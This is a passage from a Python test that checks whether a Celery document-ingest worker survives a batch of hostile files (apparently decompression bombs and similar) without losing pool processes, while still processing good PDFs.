    good = _upload(alice, SAMPLES / "pdflatex-4-pages.pdf", "pdflatex-4-pages.pdf")
    later = _upload(alice, SAMPLES / "minimal-document.pdf", "minimal-document.pdf")

    # A producer of our own: this process's app runs tasks eagerly, and CELERY_BROKER_URL in
    # the environment (memory://) would win over a broker= argument, hence the explicit
    # connection.
    # Not the current app: shared tasks of later tests must keep resolving to the project's app.
    producer = Celery("hostile-files-producer", set_as_current=False)
    producer.conf.broker_transport_options = {"global_keyprefix": brokering["CELERY_BROKER_KEYPREFIX"]}
    connection_to_broker = producer.connection_for_write(url=broker)

    def send(document: Document) -> None:
        producer.send_task(
            "documents.tasks.ingest_document_task", args=[document.pk], queue="ingest",
            connection=connection_to_broker,
        )  # fmt: skip

    log = tmp_path / "worker.log"
    started = time.monotonic()
    with (
        connection_to_broker,
        celery_worker(env, queues="ingest", pool="prefork", concurrency=2, name="hostile", log_path=log) as worker,
    ):
        assert wait_worker_ready(worker, log, timeout=60), _tail(log)
        pool_start = _pool_children(worker.pid)
        for _, document in hostile:
            send(document)
        send(good)
        batch = [document.pk for _, document in hostile] + [good.pk]
        finished = wait_for(
            lambda: not Document.objects.filter(pk__in=batch)
            .exclude(status__in=[Document.Status.READY, Document.Status.FAILED])
            .exists(),
            timeout=90,
            interval=0.25,
        )
        batch_seconds = time.monotonic() - started
        assert finished, _tail(log)
        pool_after_batch = _pool_children(worker.pid)
        # Still alive, and still consuming: a document sent after the batch is processed.
        assert worker.poll() is None, _tail(log)
        send(later)
        assert wait_for(
            lambda: Document.objects.get(pk=later.pk).status == Document.Status.READY, timeout=60
        ), _tail(log)
        assert worker.poll() is None
        pool_end = _pool_children(worker.pid)
        pool_peak_mb = max((_proc_kb(pid, "VmHWM") or 0) for pid in pool_end) / 1024

    worker_log = log.read_text()
    good.refresh_from_db()
    assert good.status == Document.Status.READY and good.page_count == 4, good.error
    for case, document in hostile:
        document.refresh_from_db()
        assert document.status == Document.Status.FAILED, (case.id, document.status)
        assert re.search(case.reason, document.error), (case.id, document.error)
        assert_clear_reason(document.error)
    # The pool processes never died: the same two processes from start to end, no lost worker.
    assert len(pool_start) == 2 and pool_start == pool_after_batch == pool_end, (pool_start, pool_end)
    assert "WorkerLostError" not in worker_log and "exited with" not in worker_log
    # The bombs inflated in the extraction children, not in the pool processes.
    assert pool_peak_mb < 300, pool_peak_mb
    _record(
        "worker-hostile-batch",
        f"prefork ingest worker (concurrency 2, CPU limit 2 s) given {len(hostile)} hostile files "
        "and a good PDF, then another good PDF",
        f"worker alive, pool processes unchanged, good PDF ready, {len(hostile)} failed with reasons; "
        f"batch done in {batch_seconds:.1f} s; pool process peak RSS {pool_peak_mb:.0f} MB",
        None,
    )
